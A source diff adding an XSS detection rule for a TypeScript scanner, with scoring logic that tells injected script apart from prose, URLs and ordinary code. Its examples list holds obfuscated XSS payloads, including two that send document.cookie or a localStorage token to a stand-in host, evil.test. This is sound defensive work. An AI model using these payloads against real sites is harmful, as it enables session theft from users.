@@ -1,0 +1,191 @@
+import {
+  endOf,
+  isAdjacent,
+  isQuote,
+  kindAt,
+  type ScriptTokens,
+  scriptKind,
+  startOf,
+  wordAt,
+} from '../../grammars/script/script.ts';
+import { mark, type ScriptEvidence } from '../../grammars/script/script-evidence.ts';
+import { mayHoldScript } from '../../grammars/script/script-hint.ts';
+import {
+  type ScriptPieces,
+  scriptPieces,
+  strongestScript,
+} from '../../grammars/script/script-pieces.ts';
+import { scriptWords } from '../../knowledge/script-words.ts';
+import { confidence } from '../../placement/confidence.ts';
+import type { Subject } from '../../placement/subject.ts';
+import { charClass } from '../../text/char-class.ts';
+import type { Match, ValueRule } from '../rule.ts';
+
+/** Script without any markup, for values that land inside a script of the page. */
+export const scriptCall: ValueRule = {
+  id: 'xss.script-call',
+  category: 'xss',
+  cwe: 'CWE-79',
+  severity: 'high',
+  score: confidence.strong,
+  message: 'is script that opens a dialog, runs a string or gives data of the page away',
+  trigger: { literals: [scriptWords] },
+  judge: judgeScriptCall,
+  examples: [
+    'alert(document.domain)',
+    "document?.write?.('<h1>a</h1>')",
+    'x=1;confirm`1`',
+    "eval(atob('YWxlcnQoMSk='))",
+    "[].constructor.constructor('alert(1)')()",
+    "location='//evil.test/?'+document.cookie",
+    'onerror=alert;throw 1',
+    '[7].map(prompt)',
+    'setTimeout("go()",5)',
+    "Reflect.get(window,'alert')(1)",
+    'Array.prototype.sort.call`${alert}1337`',
+    'Function`$${`${alert}(1)`}```',
+    '(prompt())',
+    "fetch('//evil.test/'+localStorage.token)",
+  ],
+  lookalikes: [
+    'The `alert()` function shows a dialog, `confirm` asks a question (yes or no).',
+    'Please confirm (or cancel) by 5; see prompt(s) below.',
+    'Use `document.cookie` to read cookies; see the function(s) in chapter 3.',
+    "const response = await fetch('https://api.example.org/items');",
+    'print("Hello, world!")',
+    'options?.onChange?.(event?.target?.value)',
+    'setTimeout(() => setCount(count + 1), 1000)',
+    'alert(1) meaning',
+    'const Button = styled.button`color: ${(p) => p.color};`',
+    '(prompt)',
+    'alert(1) does not show - why?',
+    'https://example.com/search?q=alert(1)+does+not+show&page=2',
+    "if (confirm('Delete this item?')) { remove(item) }",
+    'name = input(prompt("Name? "))',
+    'el.onclick = function() { alert(this.id) }',
+    'Never use `eval(name)`; parse the text.',
+  ],
+};
+
+function judgeScriptCall(subject: Subject): Match | undefined {
+  if ((subject.classes & callClasses) === 0) return undefined;
+  if (!subject.tokens(mayHoldScript)) return undefined;
+  const pieces = subject.tokens(scriptPieces);
+  const { tokens } = pieces;
+  if (!pieces.isComplete) subject.incomplete('tokens');
+  const evidence = strongestScript(pieces, 0, subject.text.length);
+  if (evidence.strength < 2) return undefined;
+  const start = startOf(tokens, evidence.first);
+  const isShown =
+    isAddress(subject.text, start) || isSearch(subject, start, endOf(tokens, evidence.last - 1));
+  return matchOf(tokens, evidence, isShown ? confidence.hint : scoreOf(pieces, evidence));
+}
+
+/** `https://example.com/?q=alert(1)`: to a script that is a label and a comment, up to a quote. */
+function isAddress(text: string, start: number): boolean {
+  return start < addressMax && address.test(text.slice(0, start));
+}
+
+/** `?q=alert(1)+does+not+show`: the words of a search behind the call, in a parameter. */
+function isSearch({ text, decoded }: Subject, start: number, end: number): boolean {
+  const isParameter =
+    decoded.at(-1)?.startsWith('form:') === true || text.charCodeAt(start - 1) === mark.equals;
+  return isParameter && searchWords.test(text.slice(end, end + 80));
+}
+
+const searchWords = /^(?:(?:\+|%20)[A-Za-z]{2,20}){2,8}(?:$|[-+&#.?%])/;
+const addressMax = 4_000;
+const address = /^https?:\/\/[^\s'"`<>\u2028\u2029]*$/i;
+
+/** Some character that a call or an assignment needs. */
+const callClasses = charClass.paren | charClass.backtick | charClass.equals;
+
+function scoreOf(pieces: ScriptPieces, evidence: ScriptEvidence): number {
+  const prose = pieces.isProse;
+  if (evidence.strength >= 3 && isTalkedAbout(pieces.tokens, evidence)) return confidence.hint;
+  if (evidence.strength === 4) return prose ? confidence.strong : confidence.certain;
+  if (evidence.strength === 3) return prose ? confidence.hint : confidence.strong;
+  if (evidence.strength === 2 && isLoneAlert(pieces.tokens, evidence)) return confidence.likely;
+  if (evidence.strength === 2 && isBracketed(pieces.tokens, evidence)) return confidence.likely;
+  if (prose) return confidence.trace;
+  return isWholeText(pieces.tokens, evidence) ? confidence.hint : confidence.trace;
+}
+
+/** The call is named among words: `alert(1) meaning`, or a code span of Markdown in a sentence. */
+function isTalkedAbout(tokens: ScriptTokens, { first, last }: ScriptEvidence): boolean {
+  const isSpan =
+    kindAt(tokens, first - 1) === mark.backtick && kindAt(tokens, last) === mark.backtick;
+  if (isSpan) return isPlainWord(tokens, first - 2) || isPlainWord(tokens, last + 1);
+  // `alert(1) does not show`: two names side by side are an error, so that nothing is run.
+  if (isPlainWord(tokens, last) && isPlainWord(tokens, last + 1) && !isCut(tokens, last))
+    return true;
+  const words = tokens.count - (last - first);
+  if (words < 1 || words > queryWordsMax || tokens.count <= last) return false;
+  for (let i = 0; i < tokens.count; i++) {
+    if (i === first) i = last;
+    if (i < tokens.count && !isPlainWord(tokens, i)) return false;
+  }
+  return true;
+}
+
+/** A line ends within the words, or what they are part of begins before the call. */
+function isCut(tokens: ScriptTokens, last: number): boolean {
+  const between = tokens.text.slice(endOf(tokens, last - 1), endOf(tokens, last + 1));
+  return lineBreak.test(between);
+}
+
+const lineBreak = /[\n\r\u2028\u2029]/;
+
+/** Longer search queries are prose by the count of their words. */
+const queryWordsMax = 8;
+
+/** A word, with white space on the side of the call, that is no part of the script grammar. */
+function isPlainWord(tokens: ScriptTokens, i: number): boolean {
+  if (kindAt(tokens, i) !== scriptKind.word || isAdjacent(tokens, i)) return false;
+  const word = wordAt(tokens, i);
+  return !operators.has(word) && !word.startsWith('on') && !word.startsWith('auto');
+}
+
+/** Words between which and a call no operator is missing. */
+const operators: ReadonlySet<string> = new Set([
+  'await',
+  'delete',
+  'else',
+  'in',
+  'instanceof',
+  'new',
+  'return',
+  'throw',
+  'typeof',
+  'void',
+  'yield',
+]);
+
+/** `window.alert("Hi there!");`, and nothing else: nobody writes that into a form but to try it. */
+function isLoneAlert(tokens: ScriptTokens, { first, last }: ScriptEvidence): boolean {
+  if (wordAt(tokens, first) !== 'alert' || tokens.count - last > 1) return false;
+  const isBare = first === 0 || (first === 2 && wordAt(tokens, 0) === 'window');
+  return isBare && isQuote(kindAt(tokens, first + 2));
+}
+
+/** `(prompt())`, and nothing else. */
+function isBracketed(tokens: ScriptTokens, { first, last }: ScriptEvidence): boolean {
+  if (first !== 1 || tokens.count !== last + 1 || kindAt(tokens, 0) !== mark.open) return false;
+  return dialogs.has(wordAt(tokens, first)) && kindAt(tokens, last) === mark.close;
+}
+
+const dialogs: ReadonlySet<string> = new Set(['alert', 'confirm', 'prompt']);
+
+/** The piece is all that the text holds, but for punctuation. */
+function isWholeText(tokens: ScriptTokens, evidence: ScriptEvidence): boolean {
+  for (let i = 0; i < evidence.first; i++) {
+    if (i > 8 || kindAt(tokens, i) <= 32) return false;
+  }
+  return tokens.count - evidence.last <= 8;
+}
+
+/** Offsets of a piece of script. */
+export function matchOf(tokens: ScriptTokens, evidence: ScriptEvidence, score: number): Match {
+  const start = startOf(tokens, evidence.first);
+  return { start, end: Math.max(start, endOf(tokens, evidence.last - 1)), score };
+}
